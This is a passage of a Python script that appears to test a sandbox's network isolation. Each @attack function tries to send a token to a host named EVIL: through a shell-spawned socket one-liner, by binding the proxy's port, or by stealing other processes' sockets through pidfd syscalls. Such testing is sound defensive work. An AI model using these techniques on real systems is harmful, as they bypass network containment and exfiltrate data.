        run("sh", "-c", child + f"python3 -c 'import socket; s = socket.create_connection((\"{EVIL}\", 80), 2); s.sendall(b\"GET /{token} HTTP/1.0\\r\\n\\r\\n\"); s.recv(9)'")
    say(connect(EVIL, 80), get(token))


@attack
def by_the_ports_of_the_proxy(token):
    """To be where the proxy listens, and take what comes."""
    for reuse in (0, 15):
        sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        try:
            if reuse:
                sock.setsockopt(socket.SOL_SOCKET, reuse, 1)
            sock.bind(("::", PROXY[1]))
            sock.listen()
        except OSError:
            pass
        sock.close()
    say(connect(EVIL, 80), get(token))


@attack
def by_a_descriptor_of_another(token):
    """A socket made by somebody else, if anybody shows one."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            pidfd = os.pidfd_open(int(pid))
            for number in range(16):
                ctypes.CDLL(None).syscall(438, pidfd, number, 0)
            os.close(pidfd)
        except OSError:
            pass
    say(connect(EVIL, 80), get(token))


def main():
    for name, play in ATTACKS.items():
        try:
            play(f"{sys.argv[1]}-{name.replace('_', '-')}")
        except (OSError, ssl.SSLError, UnicodeError):
            pass


if __name__ == "__main__":
    main()
